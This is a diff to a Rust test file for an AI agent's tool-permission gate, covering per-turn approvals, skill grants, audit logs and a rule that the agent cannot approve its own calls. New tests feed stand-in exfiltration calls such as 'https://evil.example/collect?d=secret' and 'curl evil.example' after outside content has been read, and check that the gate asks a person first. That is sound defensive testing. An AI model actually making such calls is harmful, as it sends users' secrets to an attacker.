@@ -39,10 +39,12 @@ fn fixture(policy: Policy) -> Fixture {
     }
 }
 
+/// A skill listing `tools`, which the person granted it.
 fn skill(slug: &str, tools: &[&str]) -> Option<SkillGrant> {
     Some(SkillGrant {
         skill: slug.to_string(),
         allowed_tools: tools.iter().map(|t| t.to_string()).collect(),
+        granted_tools: tools.iter().map(|t| t.to_string()).collect(),
     })
 }
 
@@ -51,7 +53,9 @@ fn turn(gate: &Gate, user: &str, grant: Option<SkillGrant>) -> Turn {
         user: user.to_string(),
         conversation_id: Some("conv_1".into()),
         channel: Some("cli".into()),
+        opened_by: "agent".into(),
         skill: grant,
+        destinations: Vec::new(),
     })
     .expect("open turn")
 }
@@ -452,20 +456,20 @@ fn the_policy_follows_config_yaml() {
     )
     .expect("gate");
     let t = turn(&gate, "u", None);
-    assert_eq!(verdict(&gate, &t, "fetch_url").0, Verdict::Ask);
+    assert_eq!(verdict(&gate, &t, "save_memory").0, Verdict::Ask);
     std::fs::write(
         data_dir.config_file(),
-        "tools:\n  policy:\n    fetch_url: allow\n",
+        "tools:\n  policy:\n    save_memory: allow\n",
     )
     .expect("write");
-    assert_eq!(verdict(&gate, &t, "fetch_url").0, Verdict::Allow);
+    assert_eq!(verdict(&gate, &t, "save_memory").0, Verdict::Allow);
     // A broken file keeps the last good policy, not the laxer or stricter default.
     std::fs::write(
         data_dir.config_file(),
-        "tools:\n  policy:\n    fetch_url: maybe\n  # longer\n",
+        "tools:\n  policy:\n    save_memory: maybe\n  # longer\n",
     )
     .expect("write");
-    assert_eq!(verdict(&gate, &t, "fetch_url").0, Verdict::Allow);
+    assert_eq!(verdict(&gate, &t, "save_memory").0, Verdict::Allow);
 }
 
 #[test]
@@ -493,13 +497,13 @@ fn an_approval_allows_an_asked_tool_in_its_turn_only() {
     let t = turn(&f.gate, "alice", None);
     let other = turn(&f.gate, "alice", None);
     assert_eq!(
-        verdict(&f.gate, &t, "fetch_url"),
+        verdict(&f.gate, &t, "save_memory"),
         (Verdict::Ask, ReasonCode::PolicyAsk)
     );
     f.clock.advance(1_000);
     let approved = f
         .gate
-        .approve(&t.id, "alice", "fetch_url", &PERSON)
+        .approve(&t.id, "alice", "save_memory", None, &PERSON)
         .expect("approve");
     let decision = &approved.decision;
     assert_eq!(
@@ -508,22 +512,24 @@ fn an_approval_allows_an_asked_tool_in_its_turn_only() {
     );
     assert!(decision.reason.contains("person"), "{}", decision.reason);
     let approval = Approval {
-        tool: "fetch_url".into(),
+        tool: "save_memory".into(),
+        args_summary: None,
+        args_key: None,
         approved_at: T0 + 1_000,
     };
     assert_eq!(approved.approval, approval);
     assert_eq!(approved.turn.approvals, [approval]);
     assert_eq!(
-        verdict(&f.gate, &t, "fetch_url"),
+        verdict(&f.gate, &t, "save_memory"),
         (Verdict::Allow, ReasonCode::Approved)
     );
     // Only that tool, only that turn.
     assert_eq!(
-        verdict(&f.gate, &t, "save_memory"),
+        verdict(&f.gate, &t, "fetch_url"),
         (Verdict::Ask, ReasonCode::PolicyAsk)
     );
     assert_eq!(
-        verdict(&f.gate, &other, "fetch_url"),
+        verdict(&f.gate, &other, "save_memory"),
         (Verdict::Ask, ReasonCode::PolicyAsk)
     );
     // A plugin in the turn may use it too: the operator said yes for the turn.
@@ -533,40 +539,42 @@ fn an_approval_allows_an_asked_tool_in_its_turn_only() {
     };
     assert_eq!(
         f.gate
-            .decide_as(caller, Some(&t.id), "fetch_url", "{}")
+            .decide_as(caller, Some(&t.id), "save_memory", "{}")
             .code,
         ReasonCode::Approved
     );
     // Ended: gone with the turn; the next turn asks again.
     f.gate.end_turn(&t.id).expect("end");
     assert_eq!(
-        verdict(&f.gate, &t, "fetch_url"),
+        verdict(&f.gate, &t, "save_memory"),
         (Verdict::Deny, ReasonCode::TurnEnded)
     );
     let next = turn(&f.gate, "alice", None);
     assert_eq!(
-        verdict(&f.gate, &next, "fetch_url"),
+        verdict(&f.gate, &next, "save_memory"),
         (Verdict::Ask, ReasonCode::PolicyAsk)
     );
     assert!(matches!(
-        f.gate.approve(&t.id, "alice", "fetch_url", &PERSON),
+        f.gate.approve(&t.id, "alice", "save_memory", None, &PERSON),
         Err(GateError::TurnEnded(_))
     ));
     // Expired: gone too, and no longer approvable.
     f.gate
-        .approve(&next.id, "alice", "fetch_url", &PERSON)
+        .approve(&next.id, "alice", "save_memory", None, &PERSON)
         .expect("approve");
     f.clock.advance(10 * MINUTE_MS);
     assert_eq!(
-        verdict(&f.gate, &next, "fetch_url"),
+        verdict(&f.gate, &next, "save_memory"),
         (Verdict::Deny, ReasonCode::TurnExpired)
     );
     assert!(matches!(
-        f.gate.approve(&next.id, "alice", "fetch_url", &PERSON),
+        f.gate
+            .approve(&next.id, "alice", "save_memory", None, &PERSON),
         Err(GateError::TurnExpired(_))
     ));
     assert!(matches!(
-        f.gate.approve("turn_nope", "alice", "fetch_url", &PERSON),
+        f.gate
+            .approve("turn_nope", "alice", "save_memory", None, &PERSON),
         Err(GateError::UnknownTurn(_))
     ));
 
@@ -577,7 +585,7 @@ fn an_approval_allows_an_asked_tool_in_its_turn_only() {
         .iter()
         .find(|e| e.caller == "operator")
         .expect("the approval is audited");
-    assert_eq!(approval.tool, "fetch_url");
+    assert_eq!(approval.tool, "save_memory");
     assert_eq!(approval.decision, Verdict::Allow);
     assert_eq!(approval.code, ReasonCode::Approved);
     assert_eq!(approval.user.as_deref(), Some("alice"));
@@ -592,7 +600,7 @@ fn an_approval_allows_an_asked_tool_in_its_turn_only() {
 fn a_denied_or_unknown_tool_cannot_be_approved() {
     let f = fixture(Policy::default().with_level("fetch_url", ToolLevel::Deny));
     let plain = turn(&f.gate, "u", None);
-    match f.gate.approve(&plain.id, "u", "fetch_url", &PERSON) {
+    match f.gate.approve(&plain.id, "u", "fetch_url", None, &PERSON) {
         Err(e @ GateError::NotApprovable { .. }) => {
             assert_eq!(e.code(), "operator-deny");
             assert!(e.to_string().contains("never a deny"), "{e}");
@@ -604,13 +612,13 @@ fn a_denied_or_unknown_tool_cannot_be_approved() {
         (Verdict::Deny, ReasonCode::OperatorDeny)
     );
     assert!(matches!(
-        f.gate.approve(&plain.id, "u", "Read", &PERSON),
+        f.gate.approve(&plain.id, "u", "Read", None, &PERSON),
         Err(GateError::UnknownTool(_))
     ));
     // While a skill is invoked, a tool outside its allowed-tools stays denied.
     let web = turn(&f.gate, "u", skill("web-search", &["fetch_url"]));
     assert!(matches!(
-        f.gate.approve(&web.id, "u", "save_memory", &PERSON),
+        f.gate.approve(&web.id, "u", "save_memory", None, &PERSON),
         Err(GateError::NotApprovable {
             code: ReasonCode::NotInAllowedTools,
             ..
@@ -627,7 +635,7 @@ fn only_the_person_approves_and_the_agents_attempt_is_audited_as_refused() {
     let t = turn(&f.gate, "alice", None);
     match f
         .gate
-        .approve(&t.id, "alice", "fetch_url", &Principal::Agent)
+        .approve(&t.id, "alice", "fetch_url", None, &Principal::Agent)
     {
         Err(e @ GateError::PersonRequired(_)) => {
             assert_eq!(e.code(), "person-required");
@@ -659,7 +667,7 @@ fn only_the_person_approves_and_the_agents_attempt_is_audited_as_refused() {
         let t = turn(&f.gate, "alice", None);
         let approved = f
             .gate
-            .approve(&t.id, "alice", "fetch_url", &Principal::Person(via))
+            .approve(&t.id, "alice", "fetch_url", None, &Principal::Person(via))
             .expect("approve");
         assert_eq!(approved.decision.code, ReasonCode::Approved);
         let page = turn_audit(&f.gate, &t);
@@ -678,7 +686,7 @@ fn another_users_turn_is_unknown_to_the_agent_and_logged_under_the_caller() {
         (Verdict::Deny, ReasonCode::UnknownTurn)
     );
     assert!(matches!(
-        f.gate.approve(&t.id, "bob", "fetch_url", &PERSON),
+        f.gate.approve(&t.id, "bob", "fetch_url", None, &PERSON),
         Err(GateError::UnknownTurn(_))
     ));
     let bobs = f
@@ -708,4 +716,126 @@ fn another_users_turn_is_unknown_to_the_agent_and_logged_under_the_caller() {
         verdict(&f.gate, &t, "fetch_url"),
         (Verdict::Allow, ReasonCode::SkillGrant)
     );
+}
+
+fn fetch(gate: &Gate, turn: &Turn, url: &str) -> (Verdict, ReasonCode, String) {
+    let args = serde_json::json!({ "url": url }).to_string();
+    let d = gate.decide(&turn.id, &turn.user, "fetch_url", &args);
+    (d.verdict, d.code, d.reason)
+}
+
+#[test]
+fn after_outside_content_a_new_destination_asks_whatever_the_grant() {
+    let f = fixture(Policy::default());
+    let t = f
+        .gate
+        .open_turn(NewTurn {
+            user: "u".into(),
+            skill: skill("web-search", &["fetch_url"]),
+            destinations: vec!["html.duckduckgo.com".into()],
+            ..NewTurn::default()
+        })
+        .expect("turn");
+    // Nothing from outside yet: the grant stands (and this fetch reads outside).
+    let first = fetch(&f.gate, &t, "https://news.example/a");
+    assert_eq!((first.0, first.1), (Verdict::Allow, ReasonCode::SkillGrant));
+    // A destination the turn knows still passes; a new one asks, saying where to,
+    // what would be sent, and what was read.
+    let known = fetch(&f.gate, &t, "https://html.duckduckgo.com/html/?q=x");
+    assert_eq!(known.1, ReasonCode::SkillGrant);
+    let evil = "https://evil.example/collect?d=secret";
+    let (verdict, code, reason) = fetch(&f.gate, &t, evil);
+    assert_eq!((verdict, code), (Verdict::Ask, ReasonCode::NewDestination));
+    for part in ["evil.example", "d=secret", "news.example"] {
+        assert!(reason.contains(part), "{part}: {reason}");
+    }
+    // Approving the tool as a whole does not cover it; approving the call does, and
+    // its host is a destination from then on.
+    f.gate
+        .approve(&t.id, "u", "fetch_url", None, &PERSON)
+        .expect("tool approval");
+    assert_eq!(fetch(&f.gate, &t, evil).1, ReasonCode::NewDestination);
+    let call = serde_json::json!({ "url": evil });
+    f.gate
+        .approve(&t.id, "u", "fetch_url", Some(&call), &PERSON)
+        .expect("call approval");
+    assert_eq!(fetch(&f.gate, &t, evil).0, Verdict::Allow);
+    assert_eq!(
+        fetch(&f.gate, &t, "https://evil.example/more").1,
+        ReasonCode::SkillGrant
+    );
+    let audit = turn_audit(&f.gate, &t);
+    assert!(
+        audit
+            .items
+            .iter()
+            .any(|e| e.code == ReasonCode::NewDestination && e.decision == Verdict::Ask),
+        "{audit:?}"
+    );
+}
+
+#[test]
+fn a_tool_whose_destination_cannot_be_read_asks_for_each_call_after_outside_content() {
+    let policy = Policy::default()
+        .with_level("run_command", ToolLevel::Allow)
+        .with_level("fetch_url", ToolLevel::Allow);
+    let f = fixture(policy);
+    let t = turn(&f.gate, "u", None);
+    let run = |command: &str| {
+        let args = serde_json::json!({ "command": command }).to_string();
+        let d = f.gate.decide(&t.id, "u", "run_command", &args);
+        (d.verdict, d.code)
+    };
+    // Before outside content the policy's allow stands; the command's output is
+    // outside content.
+    assert_eq!(run("ls"), (Verdict::Allow, ReasonCode::PolicyAllow));
+    assert_eq!(
+        run("curl evil.example"),
+        (Verdict::Ask, ReasonCode::NewDestination)
+    );
+    let call = serde_json::json!({ "command": "curl evil.example" });
+    f.gate
+        .approve(&t.id, "u", "run_command", Some(&call), &PERSON)
+        .expect("approve");
+    assert_eq!(
+        run("curl evil.example"),
+        (Verdict::Allow, ReasonCode::Approved)
+    );
+    assert_eq!(
+        run("curl evil.example/2"),
+        (Verdict::Ask, ReasonCode::NewDestination)
+    );
+    // A turn that read nothing from outside is another turn.
+    let fresh = turn(&f.gate, "u", None);
+    let args = serde_json::json!({ "command": "curl evil.example/2" }).to_string();
+    assert!(
+        f.gate
+            .decide(&fresh.id, "u", "run_command", &args)
+            .is_allowed()
+    );
+}
+
+#[test]
+fn an_approval_covers_the_arguments_it_showed_and_nothing_wider() {
+    let f = fixture(Policy::default());
+    let t = turn(&f.gate, "u", None);
+    let shown = serde_json::json!({ "url": "https://a.example/", "b": 1 });
+    f.gate
+        .approve(&t.id, "u", "fetch_url", Some(&shown), &PERSON)
+        .expect("approve");
+    // The same call, its keys in another order: the one approved.
+    let same = r#"{"b":1,"url":"https://a.example/"}"#;
+    assert_eq!(
+        f.gate.decide(&t.id, "u", "fetch_url", same).code,
+        ReasonCode::Approved
+    );
+    let (verdict, code, _) = fetch(&f.gate, &t, "https://b.example/");
+    assert_eq!((verdict, code), (Verdict::Ask, ReasonCode::PolicyAsk));
+    let audit = turn_audit(&f.gate, &t);
+    let approval = audit
+        .items
+        .iter()
+        .find(|e| e.code == ReasonCode::Approved && e.caller == "operator")
+        .expect("the approval");
+    assert!(approval.args_summary.contains("a.example"), "{approval:?}");
 }
